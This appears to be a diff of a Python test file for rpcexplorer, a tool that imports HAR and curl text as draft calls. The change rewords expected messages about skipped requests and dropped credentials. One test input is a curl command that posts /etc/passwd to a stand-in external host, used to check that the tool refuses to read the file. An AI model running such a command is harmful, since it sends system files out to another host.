@@ -47,8 +47,8 @@ def test_har_becomes_drafts_and_lists_skipped_requests(staging: Shell) -> None:
     assert ran.code == 0
     assert [line.split()[0] for line in ran.text.splitlines()] == ["user.get", "note.add", "ping", "log.write"]
     for message in (
-        "requests 1, 3 skipped: it is a GET without a body",
-        "request 6 skipped: its body is not a JSON object",
+        "requests 1, 3 skipped: GET without a body",
+        "request 6 skipped: the body is not a JSON object",
         "staging sends calls to https://shop.example.com/rpc, but the imported calls were sent to http://127.0.0.1:8744/rpc",
         "dropped credentials that staging cannot use: ?token= in the URL, Authorization: Bearer, cookie sessionid",
         "imported 4 calls as drafts of staging",
@@ -122,8 +122,8 @@ def test_password_in_params_is_never_printed(staging: Shell) -> None:
     ("text", "message"),
     [
         ("", "Nothing was imported. The text is empty."),
-        ("curl -d @/etc/passwd http://a.example", "its body comes from the file /etc/passwd, which is not read"),
-        ('{"result": 1}', "request 1 skipped: it is a response"),
+        ("curl -d @/etc/passwd http://a.example", "rpcexplorer does not read the body from the file /etc/passwd"),
+        ('{"result": 1}', "request 1 skipped: the body is a response"),
     ],
 )
 def test_file_without_calls_exits_2(staging: Shell, text: str, message: str) -> None:
